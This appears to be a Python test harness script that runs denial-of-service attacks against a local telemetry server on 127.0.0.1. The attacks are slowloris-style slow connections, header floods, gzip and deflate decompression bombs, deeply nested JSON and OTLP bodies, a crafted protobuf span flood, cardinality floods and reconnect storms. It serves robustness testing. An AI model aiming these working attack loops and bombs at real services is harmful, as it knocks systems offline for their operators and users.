"""What attackers send, until they are stopped: attackers.py NAME PORT SOURCE [TOKEN], a process of its own.

Each attack is a function of the target; it goes on whatever it is answered, and opens anew what was closed.
"""

import gzip
import http.client
import json
import random
import socket
import sys
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass

# Never set: senders keep a pace, they wait for nothing.
_PACE = threading.Event()

_EVENT = {"request_model": "gpt-4o", "usage": {"input_tokens": 1, "output_tokens": 1}}


@dataclass(frozen=True)
class Target:
    """Where to send, from which address, and as whom."""

    port: int
    source: str
    token: str = ""

    def connect(self) -> socket.socket:
        return socket.create_connection(("127.0.0.1", self.port), timeout=20, source_address=(self.source, 0))

    def head(self, method: str = "POST", path: str = "/v1/calls", more: str = "") -> bytes:
        authorization = f"Authorization: Bearer {self.token}\r\n" if self.token else ""
        always = "Host: localhost\r\nContent-Type: application/json\r\n"
        return f"{method} {path} HTTP/1.1\r\n{always}{authorization}{more}".encode()

    def post(self, body: bytes, path: str = "/v1/calls", **headers: str) -> None:
        """Send one body and wait for its answer, whatever it is."""
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=60, source_address=(self.source, 0))
        headers = {name.replace("_", "-"): value for name, value in headers.items()}
        headers.setdefault("content-type", "application/json")
        if self.token:
            headers["authorization"] = f"Bearer {self.token}"
        with suppress(OSError, http.client.HTTPException):
            connection.request("POST", path, body, headers)
            connection.getresponse().read()
        connection.close()


def dripping(target: Target, first: bytes, connections: int) -> None:
    """Hold connections open, each with one byte more every second."""
    held: list[socket.socket | None] = [None] * connections
    while True:
        for place, former in enumerate(held):
            one = former
            try:
                if one is None:
                    one = held[place] = target.connect()
                    one.sendall(first)
                one.send(b"a")
                one.setblocking(False)
                with suppress(BlockingIOError):
                    if not one.recv(65_536):
                        raise ConnectionError
                one.settimeout(20)
            except OSError:
                if one is not None:
                    one.close()
                held[place] = None
        _PACE.wait(1 if connections < 500 else 0.1)


def slow_bodies(connections: int) -> Callable[[Target], None]:
    return lambda target: dripping(target, target.head(more="Content-Length: 1000000\r\n\r\n"), connections)


def slow_heads(target: Target) -> None:
    dripping(target, target.head(more="X: "), 200)


def silence(target: Target) -> None:
    dripping(target, b"\r\n", 1_200)


def endless_headers(target: Target) -> None:
    while True:
        with suppress(OSError), target.connect() as one:
            one.sendall(target.head(more="X: "))
            for _ in range(1_000):
                one.sendall(b"a" * 1_000_000)


def many_headers(target: Target) -> None:
    while True:
        with suppress(OSError), target.connect() as one:
            one.sendall(target.head())
            for number in range(100_000):
                one.sendall(b"".join(b"X-%d: 1\r\n" % (1_000 * number + n) for n in range(1_000)))


def again(body: bytes, path: str = "/v1/calls", **headers: str) -> Callable[[Target], None]:
    """Send the same body again and again."""

    def attack(target: Target) -> None:
        while True:
            target.post(body, path, **headers)

    return attack


def events(fields: Iterator[dict[str, object]], batch: int) -> Callable[[Target], None]:
    """Send batches of events, each with its own fields."""

    def attack(target: Target) -> None:
        while True:
            lines = (_EVENT | {"started_at": time.time_ns()} | next(fields) for _ in range(batch))
            target.post(b"\n".join(json.dumps(line).encode() for line in lines))

    return attack


def names() -> Iterator[dict[str, object]]:
    while True:
        one = random.getrandbits(64)
        yield {"feature": f"f{one}", "user_id": f"u{one}", "request_model": f"m{one}", "session_id": f"s{one}"}


def bad() -> Iterator[dict[str, object]]:
    while True:
        yield {"usage": {"input_tokens": -1}, "messages": "x" * 2_000}


def spans(number: int) -> bytes:
    """Return one trace of spans that look alike, all with one response id."""
    now_ns = time.time_ns()
    attributes = {"gen_ai.operation.name": "chat", "gen_ai.request.model": "gpt-4o", "gen_ai.response.id": "r"}
    pairs = [{"key": key, "value": {"stringValue": value}} for key, value in attributes.items()]
    pairs += [{"key": f"gen_ai.usage.{side}_tokens", "value": {"intValue": "1"}} for side in ("input", "output")]
    trace_id = f"{random.getrandbits(128) or 1:032x}"
    made = [
        {"traceId": trace_id, "spanId": f"{n + 1:016x}", "name": "chat", "kind": 3, "attributes": pairs,
         "startTimeUnixNano": str(now_ns - 10**9), "endTimeUnixNano": str(now_ns)}
        for n in range(number)
    ]  # fmt: skip
    return json.dumps({"resourceSpans": [{"scopeSpans": [{"scope": {"name": "s"}, "spans": made}]}]}).encode()


def traces(target: Target) -> None:
    while True:
        target.post(spans(12_000), "/v1/traces", content_type="application/json")


def reconnects(target: Target) -> None:
    while True:
        with suppress(OSError):
            one = target.connect()
            one.send(b"G")
            one.close()


def deaf(target: Target) -> None:
    """Ask for much, many times on each connection, and read nothing."""
    held: list[socket.socket] = []
    while True:
        if len(held) < 200:
            with suppress(OSError):
                one = target.connect()
                one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
                one.sendall(target.head("GET", "/metrics", "\r\n") * 10)
                held.append(one)
        else:
            _PACE.wait(0.1)


def asked(*paths: str) -> Callable[[Target], None]:
    """Ask the same questions again and again."""

    def attack(target: Target) -> None:
        connection = http.client.HTTPConnection("127.0.0.1", target.port, timeout=60, source_address=(target.source, 0))
        while True:
            for path in paths:
                try:
                    connection.request("GET", path, headers={"authorization": f"Bearer {target.token}"})
                    connection.getresponse().read()
                except (OSError, http.client.HTTPException):
                    connection.close()

    return attack


_EMPTY_MEMBER = gzip.compress(b"", mtime=0)
_STATS = [f"/v1/stats?window=1h&kind={kind}" for kind in ("user", "feature", "model")]
ATTACKS: dict[str, Callable[[Target], None]] = {
    "16 slow bodies": slow_bodies(16),
    "200 slow bodies": slow_bodies(200),
    "1,200 slow bodies": slow_bodies(1_200),
    "slow heads": slow_heads,
    "silence": silence,
    "endless headers": endless_headers,
    "many headers": many_headers,
    # 4 MB of empty members: each was searched for by copying all that follows.
    "gzip members": again(_EMPTY_MEMBER * 200_000, content_encoding="gzip"),
    # urllib3 #1467: 100 KB of members that each unpack to 41 KB.
    "gzip members that unpack": again(gzip.compress(bytes(1_032 * 40)) * 1_350, content_encoding="gzip"),
    "a ratio bomb": again(gzip.compress(bytes(512 * 1024 * 1024), 9), content_encoding="gzip"),
    "a bomb below the ratio": again(
        gzip.compress(b"".join(b'{"a":%d}\n' % n for n in range(1_100_000))), content_encoding="gzip"
    ),
    "a deflate bomb": again(zlib.compress(bytes(64 * 1024 * 1024)), content_encoding="deflate"),
    "deep events": again(b'{"a":' * 1_000_000),
    "deep arrays": again(b"[" * 8_000_000),
    "deep OTLP": again(b'{"resourceSpans":' * 500_000, "/v1/traces", content_type="application/json"),
    # Two bytes a span on the wire.
    "empty spans": again(
        gzip.compress(b"\x0a\xff\xff\xff\x03\x12\xfa\xff\xff\x03" + b"\x12\x00" * 4_194_301), "/v1/traces",
        content_type="application/x-protobuf", content_encoding="gzip",
    ),
    "spans": traces,
    "names": events(names(), 2_000),
    "bad events": events(bad(), 2_000),
    "statistics": asked(*_STATS),
    "health checks": asked("/readyz", "/metrics", "/healthz"),
    "reconnects": reconnects,
    "deaf readers": deaf,
}  # fmt: skip

if __name__ == "__main__":
    name, port, source, *rest = sys.argv[1:]
    ATTACKS[name](Target(int(port), source, *rest))
